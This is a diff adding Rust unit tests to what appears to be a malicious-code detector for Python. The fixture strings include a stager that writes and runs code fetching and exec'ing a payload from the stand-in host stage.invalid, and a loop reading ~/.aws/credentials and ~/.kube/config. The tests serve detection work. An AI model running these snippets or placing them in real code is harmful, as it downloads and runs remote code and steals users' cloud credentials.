@@ -730,3 +730,40 @@ def get(path):
         details(src)
     );
 }
+
+#[test]
+fn constant_code_dropped_to_a_file_and_run_by_the_interpreter() {
+    // A stage two written out as a literal, then started with the running interpreter
+    // through aliased imports: what the stage does is what the file does.
+    let src = "from os import system as launch\nimport sys as s\nimport tempfile\nstage = tempfile.NamedTemporaryFile(suffix='.py', delete=False)\nstage.write(b\"import urllib.request as u; exec(u.urlopen('http://stage.invalid/two').read())\")\nstage.close()\nlaunch(f\"{s.executable} {stage.name} &\")\n";
+    let d = details(src);
+    assert!(
+        d.iter().any(|x| x.starts_with("DownloadExecute")
+            && x.contains("in the code written to a file and run")),
+        "{d:?}"
+    );
+    // The same file run by something other than Python, or data that is not code, says
+    // nothing more than the process start.
+    for src in [
+        "import os, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b\"import urllib.request as u; exec(u.urlopen('http://stage.invalid/two').read())\")\nf.close()\nos.system(f'notepad {f.name}')\n",
+        "import os, sys, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'[tool]\\nname = \"demo\"\\nthreads = 4\\n')\nf.close()\nos.system(f'{sys.executable} -m demo.configure {f.name}')\n",
+    ] {
+        let d = details(src);
+        assert!(
+            !d.iter().any(|x| x.starts_with("DownloadExecute")),
+            "{d:?}"
+        );
+    }
+}
+
+#[test]
+fn loop_over_credential_paths_reads_them() {
+    // The loop variable stands for each listed path: reading it reads the credentials.
+    let src = "import os\ndef collect():\n    home = os.path.expanduser('~')\n    out = {}\n    for rel in ('.cache/notes.txt', '.aws/credentials', '.kube/config'):\n        with open(os.path.join(home, rel)) as fh:\n            out[rel] = fh.read()\n    return out\n";
+    let d = details(src);
+    assert!(d.iter().any(|x| x.starts_with("SecretRead")), "{d:?}");
+    // A loop over ordinary paths reads nothing of note.
+    let src = "import os\nfor rel in ('README.md', 'CHANGES.rst'):\n    with open(os.path.join(os.path.dirname(__file__), rel)) as fh:\n        print(fh.read())\n";
+    let d = details(src);
+    assert!(!d.iter().any(|x| x.starts_with("SecretRead")), "{d:?}");
+}
